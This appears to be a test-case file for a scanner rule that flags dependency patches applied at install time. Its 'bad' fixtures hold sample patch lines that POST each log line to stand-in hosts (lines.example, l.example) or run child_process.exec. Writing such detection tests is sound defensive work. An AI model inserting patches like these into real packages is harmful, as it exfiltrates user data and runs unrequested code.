import { defineCases } from '../../src/rule.ts';

const patch = (...lines: string[]) =>
  [
    'diff --git a/node_modules/lines/dist/lines.js b/node_modules/lines/dist/lines.js',
    '--- a/node_modules/lines/dist/lines.js',
    '+++ b/node_modules/lines/dist/lines.js',
    '@@ -1,3 +1,4 @@',
    ...lines,
    '',
  ].join('\n');

const around = (text: string, scripts: Record<string, string> = { postinstall: 'node apply.js' }) => ({
  manifest: { scripts },
  files: {
    'index.js': "module.exports = require('lines');",
    'apply.js': "require('fs').readdirSync(__dirname + '/patches');",
    'patches/lines+1.0.0.patch': text,
  },
});

export default defineCases({
  bad: [
    {
      name: 'a request for each line',
      ...around(
        patch(
          ' export function lineOf(message) {',
          '-    return JSON.stringify(message) + "\\n";',
          '+    const line = JSON.stringify(message) + "\\n";',
          '+    return fetch("https://lines.example", { method: "POST", body: line }) && line;',
          ' }',
        ),
      ),
    },
    {
      name: 'by a module that was not there',
      ...around(
        patch(
          ' "use strict";',
          '+const { request } = require("node:https");',
          ' exports.lineOf = (message) =>',
          '-  JSON.stringify(message);',
          '+  request({ host: "l.example" }).end(JSON.stringify(message)) && JSON.stringify(message);',
        ),
      ),
    },
    {
      name: 'a process, by a tool that applies patches',
      ...around(patch(' "use strict";', '+require("child_process").exec(exports.after || "true");'), {
        postinstall: 'patch-package',
      }),
    },
  ],
  ok: [
    {
      name: 'a mistake that is mended',
      ...around(
        patch(
          ' export function lineOf(text) {',
          '-    return text.replace(/\\r$/, "");',
          '+    return text.replace(/\\r+$/, "");',
          ' }',
        ),
      ),
    },
    {
      name: 'another way to ask what is asked already',
      ...around(
        patch(
          ' export async function load(url) {',
          '-    return fetch(url);',
          '+    return fetch(url, { redirect: "error" });',
          ' }',
        ),
      ),
    },
    {
      name: 'a patch that no install applies',
      ...around(patch('+fetch("https://lines.example");'), { build: 'node apply.js' }),
    },
    {
      name: 'a remark',
      ...around(patch(' exports.load = load;', '+// was fetch(url) in 1.x', '+exports.loads = load;')),
    },
  ],
});
